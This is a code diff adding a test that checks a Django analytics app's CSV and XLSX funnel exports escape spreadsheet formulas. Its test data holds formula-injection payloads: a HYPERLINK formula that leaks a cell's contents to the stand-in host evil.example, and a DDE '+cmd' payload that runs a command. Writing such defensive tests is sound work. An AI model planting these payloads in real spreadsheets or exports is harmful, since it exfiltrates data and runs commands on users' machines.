@@ -179,3 +179,38 @@ def test_kopecks_are_kept_in_sums(history, head, march):
     report = funnel.build_report(funnel.scope_for(head), march)
     assert report.cohort.won_sum == Decimal("500000.55")
     assert report.cohort.won_average == Decimal("250000.28")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'
+
+
+def test_typed_formulas_are_exported_as_text(history, client_head):
+    history.N.name = FORMULA
+    history.N.save()
+    history.R1.name = "@SUM(1+1)"
+    history.R1.save()
+    history.a.first_name, history.a.last_name = "+cmd|' /C calc'!A0", ""
+    history.a.save()
+    rows = _csv(
+        client_head.get(
+            reverse("analytics:funnel_export", args=["cohort", "csv"]), {"month": "2025-03"}
+        )
+    )
+    assert rows[1][0] == "'" + FORMULA
+    losses = _csv(
+        client_head.get(
+            reverse("analytics:funnel_export", args=["losses_flow", "csv"]), {"month": "2025-03"}
+        )
+    )
+    assert "'@SUM(1+1): сделок" in losses[0]
+
+    response = client_head.get(
+        reverse("analytics:funnel_export", args=["all", "xlsx"]), {"month": "2025-03"}
+    )
+    book = load_workbook(io.BytesIO(response.content))
+    cell = book["Когорта"]["A3"]
+    assert (cell.data_type, cell.value) == ("s", "'" + FORMULA)
+    managers = [c.value for c in book["Менеджеры"]["A"]]
+    assert any(str(v).startswith("'+cmd|") for v in managers)
+    # Numbers, negative ones included, stay numbers.
+    assert isinstance(book["Когорта"]["B3"].value, int)
